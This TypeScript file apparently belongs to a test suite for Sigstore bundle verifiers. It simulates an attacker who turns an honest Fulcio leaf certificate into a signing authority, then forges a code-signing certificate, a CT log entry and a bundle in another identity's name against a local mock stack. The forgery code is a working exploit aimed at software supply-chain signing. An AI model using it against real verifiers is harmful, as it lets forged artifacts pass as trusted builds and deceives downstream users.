import { createPublicKey, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';

import { bundleToJSON, type SerializedBundle } from '@sigstore/bundle';
import { DSSEBundleBuilder, FulcioSigner, RekorWitness, TSAWitness } from '@sigstore/sign';

import * as x509 from '../../stack/certificate.ts';
import { poison, sctList } from '../../stack/ctlog.ts';
import * as der from '../../stack/der.ts';
import { signatureStatement } from '../../stack/sign-bundle.ts';
import { IDENTITY, type World } from '../world.ts';
import { nameIn } from './planting.ts';

interface Leaf {
  readonly key: KeyObject;
  readonly certificate: Buffer;
}

/**
 * The attacker got an honest certificate, and uses its key as an authority: everything else (log entries, timestamp, the
 * certificate's own timestamp) is genuine, and the chain lies in the bundle.
 */
export async function certifyByLeaf(world: World, digest: string): Promise<SerializedBundle> {
  const honest = await honestLeaf(world);
  const own = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const leaf = issue(world, honest, x509.spki(own.publicKey));
  const certificate = x509.toPem(leaf);
  const builder = new DSSEBundleBuilder({
    signer: {
      sign: (message) =>
        Promise.resolve({ signature: sign('sha256', message, own.privateKey), key: { $case: 'x509Certificate', certificate } }),
    },
    witnesses: [
      new RekorWitness({ rekorBaseURL: world.stack.rekorV1.url, entryType: 'dsse', retry: false }),
      new TSAWitness({ tsaBaseURL: world.stack.tsa.url, retry: false }),
    ],
  });
  const statement = Buffer.from(JSON.stringify(signatureStatement(nameIn(world), digest)));
  const bundle = bundleToJSON(await builder.create({ data: statement, type: 'application/vnd.in-toto+json' }));
  const chain = [leaf, honest.certificate, world.stack.fulcio.chain[0]].map((bytes) => ({ rawBytes: bytes.toString('base64') }));
  return {
    ...bundle,
    mediaType: 'application/vnd.dev.sigstore.bundle+json;version=0.2',
    verificationMaterial: { ...bundle.verificationMaterial, certificate: undefined, x509CertificateChain: { certificates: chain } },
  } as SerializedBundle;
}

async function honestLeaf({ stack }: World): Promise<Leaf> {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const signer = new FulcioSigner({
    fulcioBaseURL: stack.fulcio.url,
    identityProvider: {
      getToken: () => stack.issuer.token('sigstore', { job_workflow_ref: 'mallory/app/.github/workflows/a.yml@refs/heads/main' }),
    },
    keyHolder: {
      sign: (message) =>
        Promise.resolve({
          signature: sign('sha256', message, privateKey),
          key: { $case: 'publicKey', publicKey: publicKey.export({ type: 'spki', format: 'pem' }).toString() },
        }),
    },
    retry: false,
  });
  const { key } = await signer.sign(Buffer.from('anything'));
  if (key.$case !== 'x509Certificate') throw new Error('a certificate is expected');
  const base64 = key.certificate.replaceAll(/-----[A-Z ]+-----|\s/g, '');
  return { key: privateKey, certificate: Buffer.from(base64, 'base64') };
}

function issue({ stack }: World, honest: Leaf, publicKey: Buffer): Buffer {
  const parts: x509.CertificateParts = {
    serial: x509.randomSerial(),
    // Certificates of Fulcio have no subject, so those below one have no issuer.
    issuer: der.sequence(),
    subject: der.sequence(),
    notBefore: new Date(Date.now() - 60_000),
    notAfter: new Date(Date.now() + 600_000),
    publicKey,
    extensions: [
      x509.keyUsage('digitalSignature'),
      x509.extendedKeyUsage([x509.USAGE.codeSigning]),
      x509.subjectKeyIdentifier(publicKey),
      x509.authorityKeyIdentifier(x509.spki(createPublicKey(honest.key))),
      x509.alternativeNames([{ kind: 'uri', value: IDENTITY }]),
      x509.extension('1.3.6.1.4.1.57264.1.8', der.utf8String(stack.issuer.url)),
    ],
  };
  const precertificate = x509.signCertificate({ ...parts, extensions: [...parts.extensions, poison()] }, honest.key);
  const stamp = stack.ctlog.addPrecertificate(precertificate, honest.certificate);
  return x509.signCertificate({ ...parts, extensions: [...parts.extensions, sctList(stamp)] }, honest.key);
}
